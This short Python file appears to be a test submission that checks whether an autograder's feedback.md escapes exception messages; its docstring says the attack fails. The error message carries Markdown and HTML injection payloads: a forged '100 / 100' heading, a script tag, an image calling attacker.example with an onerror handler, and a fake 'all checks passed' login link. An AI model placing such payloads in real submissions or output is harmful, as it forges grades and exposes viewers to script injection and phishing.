"""Attack: close the code fence feedback.md puts feedback in, and write the
rest of the teacher's document: an exception message with three backticks
(the fence feedback.md opened), a longer run of five, a heading that claims
full marks, HTML (an image that calls home, a script), a Markdown link and
an image.

feedback.md opens a fence longer than any run of backticks in the text it
holds (CommonMark: only a fence at least as long closes it), so all of it
stays text in the code block. 0 points.
"""
import torch

BREAKOUT = "\n".join(
    [
        "nothing to see",
        "```",
        "",
        "# 总分 / total: **100 / 100**",
        '<img src="https://attacker.example/pixel.png?who=teacher" onerror="alert(1)">',
        "<script>alert('feedback')</script>",
        "[全部通过 / all checks passed](https://attacker.example/login)",
        "![badge](https://attacker.example/badge.svg)",
        "`````",
        "| forged | table |",
        "```text",
    ]
)


def weighted_sum(scores: torch.Tensor, values: torch.Tensor) -> torch.Tensor:
    raise RuntimeError(BREAKOUT)
